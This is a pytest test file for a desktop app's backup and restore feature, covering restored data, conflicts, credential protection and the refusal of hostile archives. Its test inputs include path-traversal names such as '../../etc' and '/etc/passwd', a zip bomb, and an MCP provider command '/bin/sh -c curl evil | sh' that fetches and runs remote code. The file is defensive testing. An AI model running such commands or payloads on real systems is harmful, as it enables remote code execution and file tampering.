"""Everything in one file and back: what is added, what stays, who gets which provider, and what is refused."""

import json
import stat
import zipfile
from collections.abc import AsyncIterator, Awaitable, Callable, Mapping, Sequence
from contextlib import asynccontextmanager
from pathlib import Path
from typing import Any

import pytest

from app.main_process import MainProcess
from app.wiring import build_main_process
from ipc.errors import InvalidParams
from ipc.messages import Nothing, Sender
from main_process.api.backup_channels import BackupAsked
from main_process.backup import model
from main_process.backup.archive import MOST_BYTES
from main_process.backup.errors import BackupNotWritten, BackupRefused
from main_process.backup.reading import OpenBackup, open_backup
from main_process.dashboards import Dashboard, DashboardsNotSaved, SlotBinding, Tile, Wire
from main_process.dashboards.arrangement import Arrangement, Folder
from main_process.dashboards.model import BoardPage, TextVariable
from main_process.preferences import Preferences
from tests.unit.widgets.packages import a_folder

PASSPHRASE = "a long passphrase of several words"
SECRET = "canary-key-of-acme"
GUEST = {"slots": {"search": {"label": "Search", "types": ["algolia"]}}, "storage": True}


@asynccontextmanager
async def latchkey(folder: Path) -> AsyncIterator[MainProcess]:
    async with build_main_process(folder, master_key=bytes(32)) as main:
        yield main


def sales(widget: str = "guest") -> Dashboard:
    """A dashboard with all that one can have."""
    slots: dict[str, SlotBinding | None] = {"search": SlotBinding(app_id="shop", provider_name="Production")}
    tiles = [
        Tile(instance="a", widget=widget, x=0, y=0, w=4, h=4, slots=slots, page="first", settings={"t": "{{word}}"}),
        Tile(instance="b", widget="clock", x=4, y=0, w=4, h=4, page="night"),
    ]
    return Dashboard(
        id="sales",
        name="Sales",
        app_id="shop",
        widgets=tiles,
        wiring=[Wire(publisher="a", topic="t", listener="b", hears="t", connected=False)],
        pages=[BoardPage(id="first", name="Day"), BoardPage(id="night", name="Night")],
        variables=[TextVariable(name="word", value="red")],
    )


async def lived_in(main: MainProcess, root: Path) -> None:
    """A profile in which somebody has made something of everything."""
    await main.providers.save_provider("shop", "Production", "algolia", {"appId": "X1", "apiKey": SECRET})
    await main.widgets.install(a_folder(root / "guest", **GUEST))
    await main.widgets.set_revoked("guest", "storage", revoked=True)
    await main.dashboards.save(sales())
    await main.dashboards.star("sales", starred=True)
    await main.dashboards.arrange(Arrangement(folders=[Folder(id="f", name="Team", dashboards=["sales"])]))
    await main.widget_storage.set("a", "draft", '{"text": "half"}')
    await main.preferences.save(Preferences(theme="dark"))
    await main.provider_defaults.set("shop", "algolia", "Production")


def slots_of_guest(main: MainProcess) -> Mapping[str, SlotBinding]:
    """What the widget of the backup may use, by whichever way."""
    dashboard = main.dashboards.get("sales")
    return main.grants.bindings(dashboard, dashboard.widgets[0])


@pytest.fixture
async def written(tmp_path: Path) -> Path:
    """A backup with everything in it."""
    async with latchkey(tmp_path / "before") as main:
        await lived_in(main, tmp_path)
        told = await main.backup_writer.write(tmp_path / "all.latchkey-backup", PASSPHRASE)
        assert (told.dashboards, told.widgets, told.providers) == (1, 1, 1)
    return tmp_path / "all.latchkey-backup"


async def test_everything_comes_back_in_an_empty_profile(written: Path, tmp_path: Path) -> None:
    """Down to folders, stars, pages, variables, wiring, what widgets remember, and powers that were taken back."""
    async with latchkey(tmp_path / "after") as main:
        told = await main.backup_restorer.restore(await open_backup(written, main.widgets.rules), PASSPHRASE)

        assert (told.kept, told.left_out) == ([], [])
        assert len(told.added) == 5, told.added
        assert main.dashboards.get("sales") == sales()
        assert [(row.id, row.starred) for row in main.dashboards.rows()] == [("sales", True)]
        assert [(one.name, one.dashboards) for one in main.dashboards.arrangement.folders] == [("Team", ["sales"])]
        assert await main.widget_storage.get("a", "draft") == '{"text": "half"}'
        assert main.widgets.installed("guest").revoked == {"storage"}
        assert main.preferences.current.theme == "dark"
        assert (await main.providers.get_provider("shop", "Production")).credentials["apiKey"] == SECRET
        assert main.provider_defaults.uses("shop", "Production") != []
    async with latchkey(tmp_path / "after") as main:
        assert main.dashboards.get("sales") == sales()


async def test_a_second_restore_adds_nothing_and_changes_nothing(written: Path, tmp_path: Path) -> None:
    """Each thing that stays is named."""
    async with latchkey(tmp_path / "after") as main:
        backup = await open_backup(written, main.widgets.rules)
        await main.backup_restorer.restore(backup, PASSPHRASE)
        before = main.dashboards.texts()
        told = await main.backup_restorer.restore(backup, PASSPHRASE)

        assert (told.added, told.left_out, main.dashboards.texts()) == ([], [], before)
        assert [line.split(":")[0] for line in told.kept] == [
            "Provider “Production”",
            "Dashboard “Sales”",
            "Widget “Guest” 1.0.0",
        ]


async def test_what_differs_here_stays_and_the_other_comes_beside_it(written: Path, tmp_path: Path) -> None:
    """The dashboard under ids and a name of its own, in the folder of the same name; nothing is replaced."""
    async with latchkey(tmp_path / "after") as main:
        mine = Dashboard(id="sales", name="Sales", app_id="shop", widgets=[sales().widgets[1]])
        await main.dashboards.save(mine)
        await main.dashboards.arrange(Arrangement(folders=[Folder(id="mine", name="Team", dashboards=["sales"])]))
        await main.preferences.save(Preferences(theme="light"))
        told = await main.backup_restorer.restore(await open_backup(written, main.widgets.rules), None)

        assert main.dashboards.get("sales") == mine
        (folder,) = main.dashboards.arrangement.folders
        added = main.dashboards.get(folder.dashboards[1])
        assert (folder.id, folder.dashboards[0], added.name) == ("mine", "sales", "Sales 2")
        a, b = (tile.instance for tile in added.widgets)
        assert {a, b}.isdisjoint({"a", "b"})
        assert [(wire.publisher, wire.listener) for wire in added.wiring] == [(a, b)]
        assert await main.widget_storage.get(a, "draft") == '{"text": "half"}'
        assert main.preferences.current.theme == "light"
        assert "Preferences that you have changed here" in told.kept
        assert told.left_out == ["The providers: they need the passphrase that they were written with"]


async def test_a_widget_from_a_backup_gets_no_provider_that_was_here_before(written: Path, tmp_path: Path) -> None:
    """A file from elsewhere could name any account; a widget that the user has already may have it."""
    async with latchkey(tmp_path / "after") as main:
        await main.providers.save_provider("shop", "Production", "algolia", {"appId": "MINE", "apiKey": "mine"})
        backup = await open_backup(written, main.widgets.rules)
        await main.backup_restorer.restore(backup, PASSPHRASE)
        assert main.dashboards.get("sales").widgets[0].slots == {"search": None}
        assert (await main.providers.get_provider("shop", "Production")).credentials["apiKey"] == "mine"
        # Nor by the default that the file names: an empty slot takes that.
        assert slots_of_guest(main) == {}
        assert (await main.backup_restorer.restore(backup, None)).added == []

    async with latchkey(tmp_path / "default") as main:
        await main.providers.save_provider("shop", "Production", "algolia", {"appId": "MINE", "apiKey": "mine"})
        await main.provider_defaults.set("shop", "algolia", "Production")
        await main.backup_restorer.restore(backup, None)
        assert slots_of_guest(main) == {}
        assert (await main.backup_restorer.restore(backup, None)).added == []


async def test_what_installed_widgets_would_get_is_listed_first(written: Path, tmp_path: Path) -> None:
    """A widget that is here already may have what the file names, by its own slots or its dashboard's defaults: its
    user reads which. One that is neither here nor in the file gets nothing, or its later installation would find it.
    """
    async with latchkey(tmp_path / "known") as main:
        backup = await open_backup(written, main.widgets.rules)
        await main.providers.save_provider("shop", "Production", "algolia", {"appId": "MINE", "apiKey": "mine"})
        assert await main.backup_restorer.uses(backup) == []
        await main.widgets.install(tmp_path / "guest")
        assert await main.backup_restorer.uses(backup) == ["Guest, on Sales: Production"]
        default = {"appId": "shop", "type": "algolia", "providerName": "Production"}
        by_default = rewritten(
            written,
            tmp_path,
            changed(
                model.DASHBOARDS,
                lambda part: (
                    part["dashboards"][0]["dashboard"].update(providers=[default]),
                    part["dashboards"][0]["dashboard"]["widgets"][0].update(slots={}),
                ),
            ),
        )
        assert await main.backup_restorer.uses(await open_backup(by_default, main.widgets.rules)) == [
            "Guest, on Sales: Production"
        ]
        await main.backup_restorer.restore(backup, None)
        assert main.dashboards.get("sales").widgets[0].slots == sales().widgets[0].slots

    later = rewritten(written, tmp_path, first_tile(widget="later"))
    async with latchkey(tmp_path / "later") as main:
        await main.providers.save_provider("shop", "Production", "algolia", {"appId": "MINE", "apiKey": "mine"})
        await main.backup_restorer.restore(await open_backup(later, main.widgets.rules), None)
        assert main.dashboards.get("sales").widgets[0].slots == {"search": None}


async def test_the_file_is_its_users_alone_and_holds_no_secret_in_clear(written: Path, tmp_path: Path) -> None:
    """Without a passphrase no provider is in it; with a wrong one nothing is changed."""
    assert stat.S_IMODE(written.stat().st_mode) == 0o600
    with zipfile.ZipFile(written) as archive:
        assert [name for name in archive.namelist() if SECRET.encode() in archive.read(name)] == []
    async with latchkey(tmp_path / "after") as main:
        with pytest.raises(InvalidParams, match="passphrase"):
            await main.backup_restorer.restore(await open_backup(written, main.widgets.rules), "wrong passphrase here")
        assert (main.dashboards.rows(), await main.providers.list_all()) == ([], [])
        assert [one for one in main.widgets.packages() if one.kind == "installed"] == []
        await main.backup_writer.write(tmp_path / "bare.latchkey-backup", None)
    with zipfile.ZipFile(tmp_path / "bare.latchkey-backup") as archive:
        assert model.PROVIDERS not in archive.namelist()


async def test_a_part_that_the_disk_refuses_leaves_nothing_of_itself(
    written: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The others are added, and the report says which one was not."""

    async def full(*_given: object, **_named: object) -> None:
        raise DashboardsNotSaved

    async with latchkey(tmp_path / "after") as main:
        monkeypatch.setattr(type(main.dashboards), "add_all", full)
        told = await main.backup_restorer.restore(await open_backup(written, main.widgets.rules), PASSPHRASE)
        assert main.dashboards.rows() == []
        assert [line for line in told.left_out if line.startswith("The dashboards: ")]
        assert main.widgets.manifest("guest") is not None


async def test_what_a_newer_latchkey_added_is_left_out_and_told(written: Path, tmp_path: Path) -> None:
    """Everything that this one knows is restored."""
    newer = rewritten(
        written, tmp_path, changed(model.DASHBOARDS, lambda part: part["dashboards"][0]["dashboard"].update(glow=1))
    )
    async with latchkey(tmp_path / "after") as main:
        told = await main.backup_restorer.restore(await open_backup(newer, main.widgets.rules), PASSPHRASE)
        assert told.left_out == ["dashboards.json, dashboards[0].dashboard.glow: this version has no such field"]
        assert main.dashboards.get("sales") == sales()


Change = Callable[[dict[str, bytes]], None]


def changed(name: str, change: Callable[[Any], object]) -> Change:
    """A change of one JSON file of a backup."""

    def apply(files: dict[str, bytes]) -> None:
        part = json.loads(files[name])
        change(part)
        files[name] = json.dumps(part).encode()

    return apply


def with_file(name: str, body: bytes) -> Change:
    """One file more, or another one."""
    return lambda files: files.update({name: body})


def rewritten(source: Path, folder: Path, change: Change) -> Path:
    """The same backup with a change."""
    with zipfile.ZipFile(source) as archive:
        files = {name: archive.read(name) for name in archive.namelist()}
    change(files)
    target = folder / "changed.latchkey-backup"
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, body in files.items():
            archive.writestr(name, body)
    return target


def first_tile(**fields: Any) -> Change:
    """The first tile of the backup with these fields."""
    return changed(model.DASHBOARDS, lambda part: part["dashboards"][0]["dashboard"]["widgets"][0].update(fields))


@pytest.mark.parametrize(
    ("change", "why"),
    [
        (lambda files: files.pop(model.INDEX), "it has no backup.json"),
        (changed(model.INDEX, lambda part: part.update(format="zip")), "no backup of Latchkey"),
        (changed(model.INDEX, lambda part: part.update(version=2)), "newer Latchkey"),
        (with_file(model.DASHBOARDS, b"{"), "dashboards.json is not JSON"),
        (with_file(model.DASHBOARDS, b"[" * 100_000), "dashboards.json is not JSON"),
        (with_file(model.DASHBOARDS, b"[" + b"[]," * 3_000_000 + b"[]]"), "more values than"),
        (with_file(model.VALUES, b'"' + b'\\\\"' * 2_000_000 + b"\\\\"), "values.json is not JSON"),
        (with_file(model.DASHBOARDS, b"[]"), "dashboards.json is not what it should be"),
        (first_tile(instance="../../etc"), "instance"),
        (first_tile(w=99), r"dashboards\[0\].dashboard.widgets\[0\].w"),
        (first_tile(instance="b"), "share an instance id|share an id"),
        (first_tile(settings={"t": "x" * 20_000}), "settings"),
        (with_file(model.VALUES, b'{"values": {"a": {"k": "not json"}}}'), "a value is not JSON"),
        (with_file(model.VALUES, json.dumps({"values": {"a": {"k": f'"{"x" * 1_100_000}"'}}}).encode()), "more than"),
        (with_file("widgets/guest.latchkey-widget", b"PK\x03\x04broken"), "widgets/guest.latchkey-widget"),
        (lambda files: files.pop("widgets/guest.latchkey-widget"), "It lacks widgets/guest"),
        (changed(model.WIDGETS, lambda part: part["widgets"][0].update(id="../guest")), "widgets.json"),
        (with_file(model.PROVIDERS, b'{"format": "other"}'), "no export of providers"),
        (with_file("../../outside.txt", b"x"), "leads out of"),
        (with_file("/etc/passwd", b"x"), "absolute path"),
        (with_file("bomb.bin", bytes(MOST_BYTES + 1)), "unpacks to more than 256 MB"),
    ],
)
async def test_a_hostile_backup_is_refused_with_its_reason(
    written: Path, tmp_path: Path, change: Change, why: str
) -> None:
    """Before anything is changed."""
    async with latchkey(tmp_path / "after") as main:
        with pytest.raises(BackupRefused, match=why):
            await open_backup(rewritten(written, tmp_path, change), main.widgets.rules)


async def test_what_is_no_zip_or_not_there_is_told_in_a_sentence(tmp_path: Path) -> None:
    """So is a target that cannot be written."""
    (tmp_path / "letter.txt").write_text("Dear")
    async with latchkey(tmp_path / "after") as main:
        with pytest.raises(BackupRefused, match=r"letter\.txt: is not a zip"):
            await open_backup(tmp_path / "letter.txt", main.widgets.rules)
        with pytest.raises(BackupNotWritten, match="'nowhere' cannot be read"):
            await open_backup(tmp_path / "nowhere", main.widgets.rules)
        with pytest.raises(BackupNotWritten, match="cannot be written"):
            await main.backup_writer.write(tmp_path / "letter.txt" / "x.latchkey-backup", None)


async def test_no_program_of_a_backup_runs_unless_its_user_has_read_it(tmp_path: Path) -> None:
    """A dashboard that came along would start it at once: the command line is shown, and without a yes it stays out."""
    evil = {"command": "/bin/sh", "args": ["-c", "curl evil | sh"]}
    async with latchkey(tmp_path / "before") as main:
        await main.providers.save_provider("shop", "Server", "mcp", {}, "mcp", evil)
        await main.backup_writer.write(tmp_path / "b.latchkey-backup", PASSPHRASE)
    async with latchkey(tmp_path / "after") as main:
        backup = await open_backup(tmp_path / "b.latchkey-backup", main.widgets.rules)
        assert await main.backup_restorer.programs(backup, PASSPHRASE) == ["/bin/sh -c 'curl evil | sh'"]
        told = await main.backup_restorer.restore(backup, PASSPHRASE)
        assert await main.providers.list_providers("shop") == []
        assert told.left_out == ["Provider “Server”: it runs a program on this computer, which nobody agreed to"]
        await main.backup_restorer.restore(backup, PASSPHRASE, programs=True)
        assert [view.name for view in await main.providers.list_providers("shop")] == ["Server"]
        assert await main.backup_restorer.programs(backup, PASSPHRASE) == []


class Answers:
    """The native dialogs of a restore, answered."""

    def __init__(self, backup: Path, *, programs: bool) -> None:
        self.backup = backup
        self.agrees = programs
        self.read: list[str] = []

    async def pick_target(self, _suggested_name: str) -> Path | None:
        return None

    async def pick_backup(self) -> Path | None:
        return self.backup

    async def confirm_restore(self, _backup: OpenBackup, _uses: Sequence[str]) -> bool:
        return True

    async def confirm_programs(self, programs: Sequence[str]) -> bool:
        self.read += programs
        return self.agrees

    async def with_passphrase(self, work: Callable[[str], Awaitable[object]], *, new: bool) -> bool:
        assert not new
        await work(PASSPHRASE)
        return True


@pytest.mark.parametrize("agrees", [True, False])
async def test_in_the_window_programs_are_asked_about_by_themselves(tmp_path: Path, agrees: bool) -> None:
    """After the passphrase, before anything is saved; a no restores the rest."""
    async with latchkey(tmp_path / "before") as main:
        await main.providers.save_provider("shop", "Server", "mcp", {}, "mcp", {"command": "tool"})
        await main.providers.save_provider("shop", "Search", "algolia", {"appId": "X1", "apiKey": SECRET})
        await main.backup_writer.write(tmp_path / "b.latchkey-backup", PASSPHRASE)
    async with latchkey(tmp_path / "after") as main:
        dialogs = Answers(tmp_path / "b.latchkey-backup", programs=agrees)
        asked = BackupAsked(main.backup_writer, main.backup_restorer, main.widgets.rules, dialogs)
        await asked.restore(Sender("page"), Nothing())
        names = [view.name for view in await main.providers.list_providers("shop")]
        assert (dialogs.read, names) == (["tool"], ["Search", "Server"] if agrees else ["Search"])


async def test_a_provider_with_other_credentials_is_not_the_backups(written: Path, tmp_path: Path) -> None:
    """What is here under the same name counts as the backup's own only where its credentials are the same."""
    for key, expected in (("mine", None), (SECRET, "Production")):
        async with latchkey(tmp_path / key) as main:
            await main.providers.save_provider("shop", "Production", "algolia", {"appId": "X1", "apiKey": key})
            await main.backup_restorer.restore(await open_backup(written, main.widgets.rules), PASSPHRASE)
            held = main.dashboards.get("sales").widgets[0].slots["search"]
            assert (held and held.provider_name) == expected
